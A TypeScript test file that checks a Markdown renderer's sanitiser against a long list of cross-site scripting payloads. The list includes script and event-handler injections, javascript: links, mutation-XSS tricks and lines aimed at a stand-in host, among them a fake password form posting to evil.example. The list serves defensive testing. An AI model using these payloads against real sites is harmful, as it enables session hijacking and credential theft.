import { describe, expect, it } from "vitest";
import { blocks, markdown, safeAddress } from "./markdown";

/** Each tries to have the page do something. None may leave more than text, and links to the web or to e-mail. */
const HOSTILE: readonly string[] = [
  // elements that run or load something
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
  "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>click</text></a></svg>",
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\">",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
  "<embed src=//evil.example/x.swf>",
  "<video><source onerror=alert(1)></video>",
  "<audio src onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<form action=//evil.example><input name=token type=password><button>Sign in again</button></form>",
  "<form id=x><input name=parentNode></form>",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<a href=//evil.example onclick=alert(1)>x</a>",
  "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
  "<style>@import '//evil.example/x.css'; * { background: url(//evil.example) }</style>",
  "<p style=\"position:fixed;inset:0;background:url(//evil.example)\">x</p>",
  "<div id=app class=notice>Your session has ended</div>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
  "<x onpointerrawupdate=alert(1)>x</x>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  // Markdown
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](  javascript:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](blob:https://evil.example/1)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/playground/credits)",
  "[x](#token=stolen)",
  "[x](https://evil.example \"\\\" onmouseover=alert(1) \\\"\")",
  "[x](https://evil.example/\"onmouseover=\"alert(1))",
  "[x](<https://evil.example/' onmouseover='alert(1)>)",
  "<javascript:alert(1)>",
  "<https://evil.example/\"><img src=x onerror=alert(1)>>",
  "[x]: javascript:alert(1)\n\n[x]",
  "[a][x]\n\n[x]: https://evil.example '\" onclick=alert(1) \"'",
  "![x](https://evil.example/pixel.png)",
  "![x](javascript:alert(1))",
  "![x\" onerror=\"alert(1)](x)",
  "![<img src=x onerror=alert(1)>](https://evil.example)",
  "[![x](javascript:alert(1))](javascript:alert(2))",
  "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
  "```\"onclick=alert(1)\nx\n```",
  "`<img src=x onerror=alert(1)>`",
  "# <img src=x onerror=alert(1)>",
  "| <img src=x onerror=alert(1)> | b |\n| :-: | - |\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
  "- [ ] <img src=x onerror=alert(1)>\n- [x] <svg onload=alert(1)>",
  "> <iframe src=javascript:alert(1)>\n>\n> [x](javascript:alert(1))",
  "<div>\n\n**bold** <img src=x onerror=alert(1)>\n\n</div>",
  "<a href='\n\njavascript:alert(1)'>x</a>",
  "~~<img src=x onerror=alert(1)>~~",
  "javascript:alert(1) and www.evil.example/<img src=x onerror=alert(1)>",
  "\\<img src=x onerror=alert(1)>",
  "&#60;img src=x onerror=alert(1)&#62;",
  "a\u0000<img src=x onerror=alert(1)>",
];

const SLOW_MS = 60_000; // a document in JavaScript is slow

const TAGS = new Set(
  "A B BLOCKQUOTE BR CODE DEL DIV EM H3 H4 H5 H6 HR I LI OL P PRE S SPAN STRONG SUB SUP TABLE TBODY TD TH THEAD TR UL".split(" "),
);
const ATTRIBUTES = new Set(["href", "title", "align", "start", "target", "rel", "tabindex"]);

function complaints(html: string): string[] {
  const page = new DOMParser().parseFromString(html, "text/html");
  const found: string[] = [];
  for (const node of page.body.querySelectorAll("*")) {
    if (!TAGS.has(node.tagName)) found.push(node.tagName);
    for (const { name, value } of node.attributes) {
      if (!ATTRIBUTES.has(name)) found.push(`${node.tagName} ${name}`);
      if (name === "href" && !/^(https?:\/\/|mailto:)/.test(value)) found.push(`href ${value}`);
    }
    if (node.tagName === "A" && node.getAttribute("rel") !== "noopener noreferrer nofollow ugc") found.push("rel");
    if (node.tagName === "A" && node.getAttribute("target") !== "_blank") found.push("target");
  }
  if (page.head.children.length > 0) found.push("head");
  return found;
}

describe("hostile Markdown", () => {
  it.each(["> ".repeat(3000), ">".repeat(6000), "- ".repeat(3000)])("shows a text that is too deep as it is", (start) => {
    const shown = markdown(`${start}<img src=x onerror=alert(1)> & so on`);
    expect(shown).toContain("&lt;img src=x");
    expect(shown).not.toContain("<img");
  });

  it.each(HOSTILE)("is harmless: %j", (text) => {
    expect(complaints(markdown(text))).toEqual([]);
    expect(complaints(markdown(`Before\n\n> - ${text}\n\nafter **it**`))).toEqual([]);
  });

  it("is harmless while it is being written", { timeout: SLOW_MS }, () => {
    for (const text of HOSTILE.filter((_, index) => index % 3 === 0)) {
      for (let end = 2; end < text.length; end += 7) expect(complaints(markdown(text.slice(0, end)))).toEqual([]);
    }
  });

  it("is harmless where one opens what the other one closes", { timeout: SLOW_MS }, () => {
    const openers = HOSTILE.filter((text) => /<!--|<style|<xmp|<noscript|<template|<math|```|`<|\]\[x|CDATA/.test(text));
    for (const one of openers) for (const other of openers) expect(complaints(markdown(`${one}\n${other}`))).toEqual([]);
  });
});

describe("Markdown", () => {
  it("HTML is shown as it is written", () => {
    const page = new DOMParser().parseFromString(markdown("Use <b>x</b> and `<i>`.\n\n<div>\nraw\n</div>"), "text/html");
    expect(page.body.textContent).toContain("Use <b>x</b> and <i>.");
    expect(page.body.textContent).toContain("<div>\nraw\n</div>");
  });

  it("definitions of links are seen where there is nothing else", () => {
    expect(markdown("[x]: http://a.example 'title'")).toBe(`<p class="markdown-plain">[x]: http://a.example 'title'</p>`);
    expect(blocks(" \n\n")).toEqual([]);
  });

  it("headings are below those of the page", () => {
    expect(markdown("# One\n\n###### Six")).toBe("<h3>One</h3>\n\n<h6>Six</h6>\n");
  });

  it("links open elsewhere and say nothing about where they were", () => {
    expect(markdown("[x](https://a.example/?a=1&b=2)")).toContain(
      '<a href="https://a.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow ugc">x</a>',
    );
  });

  it("pictures are links: nothing is loaded from anywhere", () => {
    expect(markdown("![a cat](https://a.example/cat.png)")).toContain(">picture: a cat</a>");
    expect(markdown("![a cat](cat.png)")).toContain("picture: a cat");
  });

  it("lists go on with their number, columns keep their side", () => {
    expect(markdown("3. x")).toContain('<ol start="3">');
    expect(markdown("| a |\n| -: |\n| 1 |")).toContain('<td align="right">');
  });

  it("what may scroll can be reached by the keyboard", () => {
    expect(markdown("```\ncode\n```")).toContain('<pre tabindex="0">');
  });

  it("of a text that grows, only the last block is new", () => {
    const before = blocks("One\n\n- two\n\nthr");
    const after = blocks("One\n\n- two\n\nthree and\n\nfour", before);
    expect(after).toHaveLength(4);
    expect(after[0]).toBe(before[0]);
    expect(after[1]).toBe(before[1]);
    expect(after[2]).not.toBe(before[2]);
  });

  it("a link whose address comes later is a link then", () => {
    const before = blocks("See [here][x].\n\nMore");
    expect(before[0]?.html).not.toContain("<a");
    expect(blocks("See [here][x].\n\nMore\n\n[x]: https://a.example", before)[0]?.html).toContain("<a href");
  });
});

describe("addresses", () => {
  it("only those of the web and of e-mail are kept", () => {
    expect(safeAddress("https://a.example/x")).toBe("https://a.example/x");
    expect(safeAddress("MAILTO:a@b.example")).toBe("mailto:a@b.example");
    expect(safeAddress("https://a.example/x#part")).toBe("https://a.example/x#part");
    for (const bad of ["javascript:alert(1)", "java\tscript:alert(1)", " javascript:x", "//a.example", "/x", "#x", "https://", "ftp://a.example"]) {
      expect(safeAddress(bad)).toBeNull();
    }
  });

  it("lose a fragment that would sign the reader in", () => {
    const own = location.origin;
    expect(safeAddress(`${own}/#token=a.b.c`)).toBe(`${own}/`);
    expect(safeAddress(`${own}/conversations#x`)).toBe(`${own}/conversations`);
    expect(safeAddress("http://127.0.0.1:3000/#token=a.b.c")).toBe("http://127.0.0.1:3000/");
    for (const text of [`[x](${own}/#token=a.b.c)`, `<${own}/#token=a.b.c>`, `![x](${own}/#a&token=a.b.c)`, `${own}/#token=a.b.c`]) {
      const place = document.createElement("div");
      place.innerHTML = markdown(text);
      expect(place.querySelector("a")?.hash).toBe("");
    }
  });
});
